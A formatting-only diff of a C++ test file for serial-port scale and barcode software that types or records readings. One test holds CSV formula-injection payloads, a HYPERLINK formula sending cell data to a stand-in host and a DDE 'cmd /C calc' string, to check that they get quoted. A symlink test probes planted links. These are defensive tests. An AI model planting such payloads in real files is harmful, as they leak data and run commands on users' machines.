@@ -4,22 +4,22 @@
 // read back through the key map), what was printed, the view's lines and
 // the run's state come out.
 #include "BrokerProcesses.h"
-#include "QtPrinters.h"
 #include "DoctorFixture.h"
+#include "QtPrinters.h"
 #include "RunRecords.h"
 
 #include "omvara/config/Instrument.h"
 #include "omvara/run/BrokerOutput.h"
 #include "omvara/run/RecordFileOutput.h"
 #include "omvara/run/Run.h"
+#include "omvara/util/Interruption.h"
+#include "omvara/util/ProcessProperties.h"
 #include "omvara/worker/Keybot.h"
 #include "omvara/worker/WeightWorker.h"
 #include "omvara/worker/WeightWorkerView.h"
-#include "portlink/SerialConfig.h"
-#include "omvara/util/Interruption.h"
-#include "omvara/util/ProcessProperties.h"
 #include "omvara/worker/keys/KeyInjectors.h"
 #include "omvara/worker/keys/PermissionWait.h"
+#include "portlink/SerialConfig.h"
 #include "portlink/testing/ScopedNativeSide.h"
 #include "portlink/testing/SimulatedNative.h"
 
@@ -96,7 +96,8 @@ QStringList typedTexts(const std::vector<KeyEvent> &events, const KeyMap &keyMap
                 texts.append(current);
                 current.clear();
             } else {
-                current += chords.contains(chord) ? QString::fromUcs4(&chords[chord], 1) : QStringLiteral("?");
+                current
+                    += chords.contains(chord) ? QString::fromUcs4(&chords[chord], 1) : QStringLiteral("?");
             }
             chord.clear();
         }
@@ -120,7 +121,10 @@ public:
     void capsLockOn() override { }
     void soundFailed(const QString &) override { }
     void deviceWarning(const QString &, const QString &message) override { add(message, true); }
-    void cannotStart(omvara::run::StartFailure, const QString &message) override { cannotStartWith = message; }
+    void cannotStart(omvara::run::StartFailure, const QString &message) override
+    {
+        cannotStartWith = message;
+    }
     bool goOnWithoutRecord(const QString &reason) override
     {
         recordQuestion = reason;
@@ -188,7 +192,8 @@ protected:
     }
 
     // A run on COM5 typing into a recorder; with `keyTime` each key event takes that long.
-    std::unique_ptr<omvara::run::Run> startRun(Config config, bool print = false, std::chrono::milliseconds keyTime = 0ms)
+    std::unique_ptr<omvara::run::Run> startRun(
+        Config config, bool print = false, std::chrono::milliseconds keyTime = 0ms)
     {
         config.setPort(QStringLiteral("COM5"));
         config.setOutputTerminator(omvara::config::ConfigHelper::OutputTerminator::ENTER);
@@ -221,7 +226,8 @@ protected:
         return QString::fromUtf8(file.readAll()).split(u'\n', Qt::SkipEmptyParts);
     }
 
-    std::shared_ptr<portlink::testing::SimulatedNative> native = std::make_shared<portlink::testing::SimulatedNative>();
+    std::shared_ptr<portlink::testing::SimulatedNative> native
+        = std::make_shared<portlink::testing::SimulatedNative>();
     portlink::testing::ScopedNativeSide side { native };
     portlink::testing::SimulatedPort *port = nullptr;
     RecordingRunView view;
@@ -250,7 +256,7 @@ TEST_F(RunTest, bytesOfEachInstrument_typedAndPrintedAsProcessed_repeatsOnce)
         QStringList values;
     };
     const Case cases[] = {
-        { "generic, negative and decimals", Instrument::GENERIC, [](Config &) { },
+        { "generic, negative and decimals", Instrument::GENERIC, [](Config &) {},
             "  12.30 g\r-0.5 g\rno value\r", { "12.30", "-0.5" } },
         { "Sartorius, 2 places", Instrument::SARTORIUS,
             [](Config &c) {
@@ -265,7 +271,7 @@ TEST_F(RunTest, bytesOfEachInstrument_typedAndPrintedAsProcessed_repeatsOnce)
                 c.setDecimalSeparator(omvara::config::ConfigHelper::DecimalSeparator::COMMA);
             },
             "0.0125 kg\r", { "12,5000" } }, // exact arithmetic keeps the reading's decimal places
-        { "barcode reader, letters and digits", Instrument::BARCODE_ALPHA, [](Config &) { }, "LOT42X\rA1 B2\r",
+        { "barcode reader, letters and digits", Instrument::BARCODE_ALPHA, [](Config &) {}, "LOT42X\rA1 B2\r",
             { "LOT42X", "A1" } },
         { "repeats suppressed", Instrument::GENERIC,
             [](Config &c) {
@@ -390,10 +396,13 @@ TEST_F(RunTest, deviceLostAndPortThatCannotOpen_endWithTheirReasons)
     };
     using portlink::SerialConfig;
     const Refusal refusals[] = {
-        { 1020, [](Config &c) { c.setBitRate(SerialConfig::BR_19200); }, QStringLiteral("refused the bit rate 19200") },
-        { 1021, [](Config &c) { c.setDataBits(SerialConfig::LN_7BITS); }, QStringLiteral("refused 7 data bits") },
+        { 1020, [](Config &c) { c.setBitRate(SerialConfig::BR_19200); },
+            QStringLiteral("refused the bit rate 19200") },
+        { 1021, [](Config &c) { c.setDataBits(SerialConfig::LN_7BITS); },
+            QStringLiteral("refused 7 data bits") },
         { 1022, [](Config &c) { c.setParity(SerialConfig::PY_ODD); }, QStringLiteral("refused odd parity") },
-        { 1023, [](Config &c) { c.setStopBits(SerialConfig::ST_2BITS); }, QStringLiteral("refused 2 stop bits") },
+        { 1023, [](Config &c) { c.setStopBits(SerialConfig::ST_2BITS); },
+            QStringLiteral("refused 2 stop bits") },
     };
     for (const Refusal &r : refusals) {
         SCOPED_TRACE(r.code);
@@ -407,7 +416,8 @@ TEST_F(RunTest, deviceLostAndPortThatCannotOpen_endWithTheirReasons)
             << qPrintable(view.cannotStartWith);
         EXPECT_TRUE(view.cannotStartWith.contains(QStringLiteral("The driver of COM5 ") + r.says))
             << qPrintable(view.cannotStartWith);
-        EXPECT_TRUE(view.cannotStartWith.contains(QStringLiteral("choose line settings that the port supports")));
+        EXPECT_TRUE(
+            view.cannotStartWith.contains(QStringLiteral("choose line settings that the port supports")));
         EXPECT_FALSE(port->isOpen());
     }
 }
@@ -418,10 +428,11 @@ TEST_F(RunTest, anAdapterThatBrlttyTakes_isNamedWhenItVanishesSoonAfterTheOpen)
 {
     QTemporaryDir root;
     auto system = std::make_shared<doctor_test::FixtureSystem>(root.path());
-    system->adapter(QStringLiteral("ttyUSB0"), QStringLiteral("1a86"), QStringLiteral("7523"), QStringLiteral("ch341-uart"));
+    system->adapter(QStringLiteral("ttyUSB0"), QStringLiteral("1a86"), QStringLiteral("7523"),
+        QStringLiteral("ch341-uart"));
     system->file(QStringLiteral("/usr/bin/brltty"));
     system->file(QStringLiteral("/usr/lib/udev/rules.d/85-brltty.rules"),
-                 "ENV{PRODUCT}==\"1a86/7523/*\", ENV{BRLTTY_BRAILLE_DRIVER}=\"bm\", GOTO=\"brltty_usb_run\"\n");
+        "ENV{PRODUCT}==\"1a86/7523/*\", ENV{BRLTTY_BRAILLE_DRIVER}=\"bm\", GOTO=\"brltty_usb_run\"\n");
     auto &adapter = native->addPort(QStringLiteral("/dev/ttyUSB0"));
     adapter.setNoModemLines(true);
     for (const bool reconnect : { false, true }) {
@@ -447,7 +458,7 @@ TEST_F(RunTest, anAdapterThatBrlttyTakes_isNamedWhenItVanishesSoonAfterTheOpen)
         ASSERT_TRUE(runUntil(told)) << view.important().join('\n').toStdString();
         const QStringList important = view.important();
         const QString line = *std::find_if(important.begin(), important.end(),
-                                           [](const QString &l) { return l.contains(QStringLiteral("brltty")); });
+            [](const QString &l) { return l.contains(QStringLiteral("brltty")); });
         EXPECT_TRUE(line.contains(QStringLiteral("omvara --doctor /dev/ttyUSB0"))) << line.toStdString();
         EXPECT_TRUE(line.contains(QStringLiteral("1a86:7523"))) << line.toStdString();
         run.stop();
@@ -464,11 +475,11 @@ TEST_F(RunTest, permissionToType_waitShownWhileTheEventThreadGoesOn_answerStarts
 {
     namespace kb = omvara::worker::keys;
     omvara::util::ProcessProperties::set(kb::KeyInjectors::propertyName(), QStringLiteral("portal"));
-    for (const bool answered : {true, false}) {
+    for (const bool answered : { true, false }) {
         SCOPED_TRACE(answered ? "answered" : "stopped");
         view.clear();
-        std::atomic<bool> answer {false};
-        std::chrono::milliseconds limitSeen {0};
+        std::atomic<bool> answer { false };
+        std::chrono::milliseconds limitSeen { 0 };
         omvara::run::Run::Options options;
         options.sound = false;
         options.permissionWait = 2min;
@@ -488,7 +499,8 @@ TEST_F(RunTest, permissionToType_waitShownWhileTheEventThreadGoesOn_answerStarts
         bool waitShown = false;
         QTimer poll;
         QObject::connect(&poll, &QTimer::timeout, [&] {
-            if (run.state().phase != RunState::Phase::Starting || !run.state().reason.contains("Waiting for permission"))
+            if (run.state().phase != RunState::Phase::Starting
+                || !run.state().reason.contains("Waiting for permission"))
                 return;
             waitShown = true;
             poll.stop();
@@ -591,7 +603,8 @@ TEST_F(RunTest, stopWhileTyping_finishesTheValueWithItsPauses_secondStopCutsItOf
             ASSERT_EQ(typed.size(), 1);
             EXPECT_TRUE(typed[0].endsWith(QStringLiteral("<cut>"))) << qPrintable(typed[0]);
             EXPECT_TRUE(QStringLiteral("123456789<cut>").startsWith(typed[0].chopped(5)));
-            EXPECT_TRUE(view.important().join(u'\n').contains(QStringLiteral("123456789"))) << "the cut value is reported";
+            EXPECT_TRUE(view.important().join(u'\n').contains(QStringLiteral("123456789")))
+                << "the cut value is reported";
         }
     }
 }
@@ -618,14 +631,15 @@ TEST_F(RunTest, everyLine_isSettledOnceInOrder_withWhatBecameOfIt)
         run->stop();
         ASSERT_TRUE(runUntil([&] { return view.settled.size() == 6; }));
         const LineStatus delivered = print ? LineStatus::Printed : LineStatus::Typed;
-        const std::vector<LineStatus> expected
-            = { delivered, LineStatus::Duplicate, LineStatus::Error, LineStatus::NoValue, delivered, LineStatus::Unsent };
+        const std::vector<LineStatus> expected = { delivered, LineStatus::Duplicate, LineStatus::Error,
+            LineStatus::NoValue, delivered, LineStatus::Unsent };
         for (size_t i = 0; i < expected.size(); ++i) {
             SCOPED_TRACE(i);
             EXPECT_EQ(view.settled[i].status, expected[i]);
             EXPECT_EQ(view.settled[i].seq, qint64(i + 1));
         }
-        EXPECT_EQ(view.settled[1].value, QStringLiteral("12.5")) << "the repeat keeps its value in the record";
+        EXPECT_EQ(view.settled[1].value, QStringLiteral("12.5"))
+            << "the repeat keeps its value in the record";
         EXPECT_EQ(view.settled[2].raw, QStringLiteral("abc\r"));
         EXPECT_FALSE(view.settled[2].note.isEmpty());
         EXPECT_EQ(view.settled[5].raw, QStringLiteral("half"));
@@ -666,11 +680,13 @@ TEST_F(RunTest, reconnect_deviceGoneAndBack_readsOnWithoutLossOrRepeat_stopWhile
             continue;
         }
         port->replug();
-        ASSERT_TRUE(runUntil([&] { return run->state().phase == RunState::Phase::Running && port->isOpen(); }));
+        ASSERT_TRUE(
+            runUntil([&] { return run->state().phase == RunState::Phase::Running && port->isOpen(); }));
         port->feed(run_records::records(5, 7));
         ASSERT_TRUE(runUntil([&] { return view.lines.size() == 6; }));
         EXPECT_EQ(view.lines.back().getCount(), 6);
-        ASSERT_TRUE(runUntil([&] { return typedTexts(keys->events(), run->keybot()->keyMap()).size() >= 6; }));
+        ASSERT_TRUE(
+            runUntil([&] { return typedTexts(keys->events(), run->keybot()->keyMap()).size() >= 6; }));
         run->stop();
         ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
         run->waitForOutputs();
@@ -678,7 +694,8 @@ TEST_F(RunTest, reconnect_deviceGoneAndBack_readsOnWithoutLossOrRepeat_stopWhile
             (QStringList { "1", "2", "3", "5", "6", "7" }));
         EXPECT_EQ(run->state().end, RunState::End::Stopped);
         // Good news is told as an ordinary entry, not in the style of the loss.
-        EXPECT_FALSE(view.events().filter(QStringLiteral("is back")).isEmpty()) << qPrintable(view.events().join(u'\n'));
+        EXPECT_FALSE(view.events().filter(QStringLiteral("is back")).isEmpty())
+            << qPrintable(view.events().join(u'\n'));
         EXPECT_TRUE(view.important().filter(QStringLiteral("is back")).isEmpty());
     }
 }
@@ -900,8 +917,8 @@ TEST_F(RunTest, brokerPathCutAndMended_everyValueArrivesInOrder_lossToldOnce)
         << subscriber.seqsOnce().size() << " of 300";
 
     EXPECT_EQ(subscriber.seqsOnce(), broker_test::oneTo(300));
-    EXPECT_EQ(
-        broker_test::checkMessages(subscriber.messages(), run_records::numbers(1, 300), QStringLiteral("COM5")),
+    EXPECT_EQ(broker_test::checkMessages(
+                  subscriber.messages(), run_records::numbers(1, 300), QStringLiteral("COM5")),
         QString());
     EXPECT_EQ(count(view.important(), cannotReach), 1) << qPrintable(view.important().join(u'\n'));
     EXPECT_EQ(count(view.important(), connectedAgain), 1) << qPrintable(view.important().join(u'\n'));
@@ -947,8 +964,8 @@ TEST_F(RunTest, brokerDownAtStart_valuesWaitAndArriveWhenItComesUp)
     ASSERT_TRUE(runUntil([&] { return subscriber.seqsOnce().size() >= 60; }, 30s))
         << subscriber.seqsOnce().size();
     EXPECT_EQ(subscriber.seqsOnce(), broker_test::oneTo(60));
-    EXPECT_EQ(
-        broker_test::checkMessages(subscriber.messages(), run_records::numbers(1, 60), QStringLiteral("COM5")),
+    EXPECT_EQ(broker_test::checkMessages(
+                  subscriber.messages(), run_records::numbers(1, 60), QStringLiteral("COM5")),
         QString());
     EXPECT_EQ(count(view.important(), cannotReach), 1) << qPrintable(view.important().join(u'\n'));
     run->stop();
@@ -979,7 +996,8 @@ TEST_F(RunTest, settledReadings_handOnOncePerRunOfEqualValues_beforeDuplicateSup
         { "back to the value after another one", 2, false, "5\r5\r6\r5\r5\r", { "5", "5" }, 3 },
         { "then duplicate suppression takes the repeat", 2, true, "5\r5\r6\r5\r5\r", { "5" }, 3 },
         { "a settled change is no duplicate", 2, true, "5\r5\r6\r6\r5\r5\r", { "5", "6", "5" }, 3 },
-        { "no value and failed lines neither count nor break", 3, false, "5\r---\r5\rabc\r5\r5\r", { "5" }, 3 },
+        { "no value and failed lines neither count nor break", 3, false, "5\r---\r5\rabc\r5\r5\r", { "5" },
+            3 },
         { "equal as texts only", 2, false, "12.30\r12.3\r12.30\r", {}, 3 },
     };
     for (const Case &c : cases) {
@@ -1019,9 +1037,7 @@ TEST_F(RunTest, settledReadings_handOnOncePerRunOfEqualValues_beforeDuplicateSup
 TEST_F(RunTest, requests_eachWritesTheCommand_silenceToldOncePerStretch_failedWriteGoesOn)
 {
     using omvara::run::RequestOrigin;
-    const auto silences = [&] {
-        return view.important().filter(QStringLiteral("did not answer")).size();
-    };
+    const auto silences = [&] { return view.important().filter(QStringLiteral("did not answer")).size(); };
     Config config = Instrument::GENERIC.getDefaultConfig();
     config.requestCommand = QStringLiteral("SI\\r\\n");
     auto run = startRun(std::move(config), true);
@@ -1049,7 +1065,8 @@ TEST_F(RunTest, requests_eachWritesTheCommand_silenceToldOncePerStretch_failedWr
     // A refused write.
     port->forceResult(portlink::testing::SimCall::PutData, -1, 1);
     run->request(RequestOrigin::Window);
-    ASSERT_TRUE(runUntil([&] { return !view.important().filter(QStringLiteral("could not be sent")).isEmpty(); }));
+    ASSERT_TRUE(
+        runUntil([&] { return !view.important().filter(QStringLiteral("could not be sent")).isEmpty(); }));
     EXPECT_EQ(run->state().phase, RunState::Phase::Running);
     run->stop();
     ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
@@ -1084,7 +1101,8 @@ TEST_F(RunTest, requests_eachWritesTheCommand_silenceToldOncePerStretch_failedWr
     plain->request(RequestOrigin::Window);
     runUntil([] { return false; }, 200ms);
     EXPECT_EQ(port->written(), before);
-    EXPECT_EQ(view.important().filter(QStringLiteral("no request command")).size(), 1) << qPrintable(view.important().join(u'\n'));
+    EXPECT_EQ(view.important().filter(QStringLiteral("no request command")).size(), 1)
+        << qPrintable(view.important().join(u'\n'));
     plain->stop();
     ASSERT_TRUE(runUntil([&] { return plain->state().ended(); }));
 
@@ -1194,7 +1212,8 @@ TEST(RecordFile, cellsASpreadsheetWouldRun_getAQuote_plainNumbersStayExactly)
         const char *written;
     };
     const Case cases[] = {
-        { "=HYPERLINK(\"http://x.example/?\"&A1,\"12.5\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"12.5\")" },
+        { "=HYPERLINK(\"http://x.example/?\"&A1,\"12.5\")",
+            "'=HYPERLINK(\"http://x.example/?\"&A1,\"12.5\")" },
         { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
         { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
         { "-2+3", "'-2+3" },
@@ -1222,8 +1241,8 @@ TEST(RecordFile, cellsASpreadsheetWouldRun_getAQuote_plainNumbersStayExactly)
         // In a whole row, read back by a CSV parser: in the raw and the value column.
         const omvara::run::RunLine line { 1, 1, QDateTime::currentDateTime(), cell, cell,
             omvara::run::LineStatus::Printed, {} };
-        const QList<QStringList> rows
-            = parseCsv(omvara::run::RecordFileOutput::row(line, QStringLiteral("@port"), QStringLiteral("GENERIC")));
+        const QList<QStringList> rows = parseCsv(
+            omvara::run::RecordFileOutput::row(line, QStringLiteral("@port"), QStringLiteral("GENERIC")));
         ASSERT_EQ(rows.size(), 1) << c.cell;
         ASSERT_EQ(rows[0].size(), 6) << c.cell;
         EXPECT_EQ(rows[0][1], QStringLiteral("'@port"));
@@ -1278,7 +1297,8 @@ TEST_F(RunTest, recordFileOrFolderRemovedDuringTheRun_toldOnce_rowsWrittenToTheP
 // without the record. In a folder that others than its owner may write, a
 // symbolic link at the end of the path is followed only when it is the
 // user's or root's own; the log always names the file written.
-TEST_F(RunTest, recordFileThatCannotBeOpenedAtStart_askedBeforeThePortOpens_linksOfOthersInSharedFoldersRefused)
+TEST_F(
+    RunTest, recordFileThatCannotBeOpenedAtStart_askedBeforeThePortOpens_linksOfOthersInSharedFoldersRefused)
 {
     ASSERT_EQ(::geteuid(), 0u) << "planting a link that belongs to another user takes root";
     QTemporaryDir dir;
@@ -1310,7 +1330,8 @@ TEST_F(RunTest, recordFileThatCannotBeOpenedAtStart_askedBeforeThePortOpens_link
         { "another user's link in a group-writable folder", folderWithLink("group", 0775, 65534), false },
         { "another user's link in the sticky /tmp way", folderWithLink("sticky", 01777, 65534), false },
         { "the user's own link in a world-writable folder", folderWithLink("own", 0777, ::geteuid()), true },
-        { "another user's link in a folder only its owner writes", folderWithLink("closed", 0755, 65534), true },
+        { "another user's link in a folder only its owner writes", folderWithLink("closed", 0755, 65534),
+            true },
     };
     for (const Case &c : cases) {
         for (const bool goOn : { false, true }) {
@@ -1332,7 +1353,9 @@ TEST_F(RunTest, recordFileThatCannotBeOpenedAtStart_askedBeforeThePortOpens_link
             if (c.opens) {
                 ASSERT_TRUE(started) << qPrintable(view.recordQuestion);
                 EXPECT_TRUE(view.recordQuestion.isEmpty()) << qPrintable(view.recordQuestion);
-                EXPECT_EQ(count(view.events(), QStringLiteral("recorded in ") + QFileInfo(victim).canonicalFilePath()), 1)
+                EXPECT_EQ(count(view.events(),
+                              QStringLiteral("recorded in ") + QFileInfo(victim).canonicalFilePath()),
+                    1)
                     << "the file written is named: " << qPrintable(view.events().join(u'\n'));
                 port->feed("7 g\r");
                 ASSERT_TRUE(runUntil([&] { return fileBytes(victim).contains(",7,printed"); }));
@@ -1396,9 +1419,10 @@ TEST_F(RunTest, decimalSeparatorAgainstTheSessionsLanguage_differenceWarnedOnceA
         { "English numbers in a German session, comma", { "LANG=de_DE.UTF-8", "LC_NUMERIC=en_GB.UTF-8" },
             DecimalSeparator::COMMA, Instrument::GENERIC, {}, "Choose Dot (.) as decimal separator" },
         { "C locale, KDE set to German numbers, point", { "LANG=C.UTF-8", "XDG_CURRENT_DESKTOP=KDE" },
-            DecimalSeparator::DOT, Instrument::GENERIC, desktop.path(), "(from the desktop's formats setting (KDE))" },
-        { "German, point, barcode reader", { "LC_ALL=de_DE.UTF-8" }, DecimalSeparator::DOT, Instrument::BARCODE, {},
-            {} },
+            DecimalSeparator::DOT, Instrument::GENERIC, desktop.path(),
+            "(from the desktop's formats setting (KDE))" },
+        { "German, point, barcode reader", { "LC_ALL=de_DE.UTF-8" }, DecimalSeparator::DOT,
+            Instrument::BARCODE, {}, {} },
     };
     for (const Case &c : cases) {
         SCOPED_TRACE(c.name);
@@ -1461,7 +1485,8 @@ protected:
             if (m_target == 0)
                 m_target = focus;
             else if (focus != m_target)
-                throw omvara::worker::keys::FocusMovedError(QStringLiteral("window %1").arg(focus.load()), false);
+                throw omvara::worker::keys::FocusMovedError(
+                    QStringLiteral("window %1").arg(focus.load()), false);
             ++presses;
         }
         RecordingKeyInjector::sendKey(keyCode, physicalKey, down);
@@ -1552,9 +1577,11 @@ TEST_F(RunTest, focusMovesDuringAValue_cutWithWhatWentWhere_nothingTypedUntilRes
         EXPECT_EQ(omvara::run::RecordFileOutput::row(cut, "COM5", "GENERIC").split(',').last(), "cut\r\n");
         const QByteArray message = omvara::run::BrokerOutput::message(cut, "COM5", "GENERIC", "r", 2);
         EXPECT_TRUE(message.contains("\"value\": \"567\", \"status\": \"cut\"")) << message.constData();
-        EXPECT_FALSE(omvara::run::BrokerOutput::message(view.settled[0], "COM5", "GENERIC", "r", 1).contains("status"));
+        EXPECT_FALSE(omvara::run::BrokerOutput::message(view.settled[0], "COM5", "GENERIC", "r", 1)
+                         .contains("status"));
         const QString reported = view.important().filter(QStringLiteral("Cut: ")).join(u'\n');
-        EXPECT_TRUE(reported.contains(QStringLiteral("3 of the 5")) && reported.contains(QStringLiteral("window 1")))
+        EXPECT_TRUE(
+            reported.contains(QStringLiteral("3 of the 5")) && reported.contains(QStringLiteral("window 1")))
             << qPrintable(view.important().join(u'\n'));
         EXPECT_EQ(typedTexts(focusKeys->events(), run.keybot() ? run.keybot()->keyMap() : KeyMap {}),
             (QStringList { "1234", "567<cut>" }));
@@ -1563,7 +1590,8 @@ TEST_F(RunTest, focusMovesDuringAValue_cutWithWhatWentWhere_nothingTypedUntilRes
             ASSERT_TRUE(runUntil([&] { return run.state().ended(); }));
             if (c.move == Move::EndAtCut) {
                 EXPECT_EQ(run.state().end, RunState::End::Cut);
-                EXPECT_TRUE(run.state().reason.contains(QStringLiteral("56789"))) << qPrintable(run.state().reason);
+                EXPECT_TRUE(run.state().reason.contains(QStringLiteral("56789")))
+                    << qPrintable(run.state().reason);
             } else {
                 EXPECT_EQ(run.state().end, RunState::End::Stopped);
                 EXPECT_FALSE(run.state().cut) << "nothing waits for the user after Stop";
